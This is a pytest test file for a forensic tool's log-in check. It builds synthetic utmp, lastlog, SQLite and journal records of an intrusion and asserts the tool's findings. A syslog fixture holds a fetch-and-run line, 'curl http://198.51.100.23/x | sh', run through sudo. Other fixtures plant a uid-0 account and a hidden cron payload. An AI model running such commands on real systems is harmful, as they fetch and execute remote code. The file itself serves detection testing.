# SPDX-License-Identifier: AGPL-3.0-or-later
"""Log-in databases and logs, ordinary and hostile, and the process that reads them."""

import gzip
import io
import lzma
import os
import sqlite3
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import closing

import pytest
from conftest import ANALYSIS, VOLUME, TreeMaker
from hypothesis import given, settings
from hypothesis import strategies as st

from clean_room_analysis.checks import logins
from clean_room_analysis.checks.base import Item
from clean_room_analysis.checks.logins import Logins
from clean_room_analysis.isolated import IsolatedError, run_isolated
from clean_room_analysis.journal_file import JournalError, JournalReader
from clean_room_analysis.login_records import read_records
from clean_room_analysis.model import Entry, Finding, Severity, TimelineEvent
from clean_room_analysis.mounted_tree import MountedTree
from clean_room_analysis.utmp import Gap, Login, read_utmp

BASE = 1_795_144_267  # 2026-11-20T03:11:07Z
ATTACKER = "203.0.113.66"


def utmp(kind: int, user: str, host: str, at: int, line: str = "pts/0") -> bytes:
    """One record of wtmp or btmp (struct utmp of glibc, 384 bytes)."""
    return struct.pack("<hxxi32s4s32s256shhiii16s20x", kind, 100, line.encode(), b"ts/0", user.encode(), host.encode(), 0, 0, 0, at, 0, b"")


def test_a_guessed_password_stands_out(plain: TreeMaker) -> None:
    plain.file("/var/log/btmp", b"".join(utmp(6, "root", ATTACKER, BASE + 5 * index) for index in range(42)))
    plain.file("/var/log/wtmp", utmp(7, "ec2-user", "192.0.2.10", BASE - 86400) + utmp(7, "deploy", ATTACKER, BASE + 235))
    found = {one.title: one for one in plain.findings(Logins())}
    entered = found[f"deploy logged in from {ATTACKER} after 42 failed attempts from there"]
    assert (entered.severity, entered.attack, entered.modified) == (Severity.CRITICAL, ("T1110.001", "T1078"), (BASE + 235) * 10**9)
    assert found[f"42 failed log-ins from {ATTACKER}"].path == "/var/log/btmp"
    assert found["ec2-user logged in from 192.0.2.10"].severity is Severity.INFORMATIONAL
    assert len(found) == 3


def test_lines_without_a_year_get_it_from_the_file(plain: TreeMaker) -> None:
    log = plain.file(
        "/var/log/secure",
        "".join(
            f"Nov 20 03:11:{second:02} ip-10 sshd[9]: Failed password for invalid user x from {ATTACKER} port 1 ssh2\n"
            for second in range(12)
        )
        + f"Nov 20 03:15:02 ip-10 sshd[9]: Accepted password for deploy from {ATTACKER} port 2 ssh2\n"
        + "Nov 20 03:31:40 ip-10 useradd[9]: new user: name=sysadm, UID=0, GID=0, home=/x\n",
    )
    os.utime(log, (BASE + 3600, BASE + 3600))
    results = plain.results(Logins())
    critical = {one.title for one in results if not isinstance(one, TimelineEvent) and one.severity is Severity.CRITICAL}
    assert critical == {f"deploy logged in from {ATTACKER} after 12 failed attempts from there", "Account sysadm was made with uid 0"}
    assert min(one.at for one in results if isinstance(one, TimelineEvent)) == (BASE - 7) * 10**9


def test_rotated_logs_are_read_and_links_are_told(plain: TreeMaker) -> None:
    plain.file(
        "/var/log/secure-20261101.gz",
        gzip.compress(b"Nov  1 03:15:02 ip sshd[9]: Accepted password for root from 198.51.100.9 port 2 ssh2\n", mtime=0),
    )
    plain.link("/var/log/btmp", "/dev/null")
    assert {one.title for one in plain.findings(Logins())} == {
        "root logged in with a password from 198.51.100.9",
        "A log of log-ins is a link",
    }


def test_wiped_records_are_told(plain: TreeMaker) -> None:
    plain.file("/var/log/wtmp", utmp(7, "a", "192.0.2.1", BASE) + bytes(384) + utmp(8, "", "", BASE + 9))
    assert "1 log-in records were overwritten with zeros" in {one.title for one in plain.findings(Logins())}


@pytest.mark.parametrize("content", [b"\0" * 100, b"\xff" * 1000, os.urandom(2000), b"Nov 99 99:99:99 x sshd[1]: y\n" * 50])
def test_garbage_is_no_failure_of_the_run(plain: TreeMaker, content: bytes) -> None:
    for name in ("wtmp", "btmp", "secure", "auth.log", "journal/a/system.journal"):
        plain.file(f"/var/log/{name}", content)
    try:
        plain.findings(Logins())
    except ValueError as error:  # what could not be parsed is named, and becomes the check's error
        assert "/var/log/" in str(error)


def aarch64(kind: int, user: str, host: str, at: int, line: str = "pts/0") -> bytes:
    """One record as glibc writes it on aarch64: 400 bytes, a 64-bit session number and time."""
    return struct.pack("<hxxi32s4s32s256shhqqq16s24x", kind, 100, line.encode(), b"ts/0", user.encode(), host.encode(), 0, 0, 0, at, 5, b"")


def aligned_twice(kind: int, user: str, host: str, at: int) -> bytes:
    """400 bytes with four more before the session number."""
    return struct.pack("<hxxi32s4s32s256shh4xqqq16s20x", kind, 100, b"pts/0", b"ts/0", user.encode(), host.encode(), 0, 0, 0, at, 5, b"")


@pytest.mark.parametrize("make", [utmp, aarch64, aligned_twice])
def test_records_of_each_size_are_read(make: Callable[[int, str, str, int], bytes]) -> None:
    data = b"".join(make(7, f"user{index}", "192.0.2.10", BASE + index) for index in range(30))
    read = list(read_utmp(io.BytesIO(data)))
    assert [one.user for one in read if isinstance(one, Login)] == [f"user{index}" for index in range(30)] and len(read) == 30
    assert isinstance(read[3], Login) and read[3].at // 10**9 == BASE + 3


@settings(deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["utmp", "aarch64", "torn", "junk", "zeros"]), st.integers(0, 9999)), min_size=1, max_size=12))
def test_mixed_and_torn_databases_keep_every_whole_record(parts: list[tuple[str, int]]) -> None:
    """Records of both sizes, halves of records and garbage in any order: every whole record is read, no byte is lost without a word."""
    data, whole = b"", []
    for kind, number in parts:
        if kind in ("utmp", "aarch64"):
            data += (utmp if kind == "utmp" else aarch64)(7, f"u{number}", "192.0.2.1", BASE + number)
            whole.append(f"u{number}")
        elif kind == "torn":
            data += utmp(7, "torn", "", BASE)[: 1 + number % 300].replace(b"\0", b"\xfe")
        else:
            data += b"\xfe" * (number % 700) if kind == "junk" else bytes(384)
    read = list(read_utmp(io.BytesIO(data)))
    assert [one.user for one in read if isinstance(one, Login)] == whole
    assert sum(one.length for one in read if isinstance(one, Gap)) == len(data) - sum(
        384 if kind == "utmp" else 400 for kind, _ in parts if kind in ("utmp", "aarch64")
    )


def test_what_is_no_record_is_an_error_and_no_erasure(plain: TreeMaker) -> None:
    plain.file("/var/log/wtmp", utmp(7, "a", "192.0.2.1", BASE) + b"\xfe" * 777 + utmp(7, "b", "192.0.2.2", BASE + 9))
    check = Logins()
    found: list[str] = []
    with closing(MountedTree(str(plain.root))) as tree:
        for entry in tree.walk(lambda path, why: None):
            if check.wants(entry):
                assert list(check.look(Item(entry, tree, VOLUME))) == []
        with pytest.raises(ValueError, match="777 of its bytes, from byte 384 on, hold no log-in record"):
            found.extend(one.title for one in check.leave(tree) if isinstance(one, Finding))
    assert found == ["a logged in from 192.0.2.1", "b logged in from 192.0.2.2"]


@pytest.mark.parametrize("layout", ["<i32s256s", "<q32s256s"])
def test_lastlog(plain: TreeMaker, layout: str) -> None:
    record = struct.Struct(layout)
    data = bytearray(record.size * 1003)
    for user, host in ((0, ATTACKER), (1000, "192.0.2.10")):
        record.pack_into(data, user * record.size, BASE, b"pts/0", host.encode())
    plain.file("/var/log/lastlog", bytes(data))
    plain.file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nec2-user:x:1000:1000::/home/ec2-user:/bin/sh\n")
    assert {one.title for one in plain.findings(Logins())} == {f"root logged in from {ATTACKER}", "ec2-user logged in from 192.0.2.10"}


def test_databases_of_newer_systems(plain: TreeMaker) -> None:
    for path, table in (
        (
            "/var/lib/wtmpdb/wtmp.db",
            "CREATE TABLE wtmp(ID INTEGER PRIMARY KEY, Type INTEGER, User TEXT, Login INTEGER, Logout INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT) STRICT",
        ),
        (
            "/var/lib/lastlog/lastlog2.db",
            "CREATE TABLE Lastlog2(Name TEXT PRIMARY KEY, Time INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT)",
        ),
    ):
        with closing(sqlite3.connect(plain.file(path))) as database:
            database.execute("PRAGMA journal_mode=WAL")
            database.execute(table)
            if "wtmp" in path:
                database.execute("INSERT INTO wtmp VALUES(1, 3, 'deploy', ?, NULL, 'pts/0', ?, 'sshd')", (BASE * 10**6, ATTACKER))
            else:
                database.execute("INSERT INTO Lastlog2 VALUES('root', ?, 'pts/1', ?, 'sshd')", (BASE, ATTACKER))
            database.commit()
    found = {one.title: one for one in plain.findings(Logins())}
    assert set(found) == {f"deploy logged in from {ATTACKER}", f"root logged in from {ATTACKER}"}
    assert {one.modified for one in found.values()} == {BASE * 10**9}


def test_sudo_and_cron_are_judged_by_what_they_ran(plain: TreeMaker) -> None:
    plain.file(
        "/var/log/syslog",
        "2026-11-20T03:11:00+00:00 ip sudo:   app : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c curl http://198.51.100.23/x | sh\n"
        "2026-11-20T03:12:00+00:00 ip CRON[9]: (root) CMD (/var/tmp/.x/run)\n"
        "2026-11-20T03:13:00+00:00 ip CRON[9]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)\n"
        "2026-11-20T03:14:00+00:00 ip kernel: [ 9.1] evil: module verification failed: signature and/or required key missing - tainting kernel\n",
    )
    found = plain.findings(Logins())
    assert [(one.severity, one.attack[0]) for one in found] == [
        (Severity.HIGH, "T1548.003"),
        (Severity.HIGH, "T1053.003"),
        (Severity.LOW, "T1547.006"),
    ]


def journal() -> bytes:
    return lzma.decompress((ANALYSIS / "tests/data/small.journal.xz").read_bytes())


def test_a_journal_as_systemd_writes_it(plain: TreeMaker) -> None:
    """data/README.md says how it was made: 120 entries, of which the last is a log-in; compressed and plain fields."""
    entries = list((reader := JournalReader(journal())).entries({b"sshd", b"sudo"}, 100))
    assert entries[0].message == "Accepted password for root from 203.0.113.66 port 2 ssh2" and (reader.cut, reader.skipped) == (0, 0)
    assert any(one.program == "sudo" and len(one.message) > 2000 for one in entries)
    assert [one.at for one in entries] == sorted((one.at for one in entries), reverse=True)
    assert [one.at for one in reader.entries({b"sshd"}, 1)] == [entries[0].at] and reader.cut > 0
    plain.file("/var/log/journal/a/system.journal", journal())
    assert "root logged in with a password from 203.0.113.66" in {one.title for one in plain.findings(Logins())}


@settings(deadline=None, max_examples=40)
@given(st.lists(st.tuples(st.integers(208, 40_000), st.binary(min_size=1, max_size=64)), max_size=20))
def test_a_damaged_journal_ends_and_says_so(changes: list[tuple[int, bytes]]) -> None:
    data = bytearray(journal())
    for at, content in changes:
        data[at : at + len(content)] = content
    reader = JournalReader(bytes(data))
    assert len(list(reader.entries({b"sshd", b"sudo", b"kernel"}, 1000))) <= 120
    with pytest.raises(JournalError):
        JournalReader(b"x" * 500)


def test_a_log_that_never_ends_is_stopped_and_the_others_are_read(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
    def endless(tree: object, entry: Entry) -> Iterator[object]:
        if entry.name.endswith(".journal"):
            time.sleep(600)
        yield from read_records(tree, entry)  # type: ignore[arg-type]

    plain.file("/var/log/journal/a/system.journal", b"x")
    plain.file("/var/log/wtmp", utmp(7, "root", "192.0.2.10", BASE))
    monkeypatch.setattr(logins, "_SECONDS_PER_FILE", 2.0)
    monkeypatch.setattr(logins, "read_records", endless)
    check = Logins()
    found: list[str] = []
    began = time.monotonic()
    with closing(MountedTree(str(plain.root))) as tree:
        for entry in tree.walk(lambda path, why: None):
            if check.wants(entry):
                assert list(check.look(Item(entry, tree, VOLUME))) == []
        with pytest.raises(ValueError, match="system.journal: stopped after 2 seconds"):
            found.extend(one.title for one in check.leave(tree) if isinstance(one, Finding))
    assert time.monotonic() - began < 20
    assert found == ["root logged in from 192.0.2.10"]  # the other log was read all the same


def _swell() -> Iterator[int]:
    yield 1
    yield len(bytearray(4 << 30))


def _numbers() -> Iterator[int]:
    yield from range(2345)


def _die() -> Iterator[int]:
    yield 1
    os._exit(9)


def test_isolated_parsers_give_rows_and_cannot_take_the_run_with_them() -> None:
    assert list(run_isolated(_numbers, 60)) == list(range(2345))
    rows: list[int] = []
    with pytest.raises(IsolatedError, match="memory"):
        rows.extend(run_isolated(_swell, 60, memory=64 << 20))
    with pytest.raises(IsolatedError, match="without a word"):
        list(run_isolated(_die, 60))
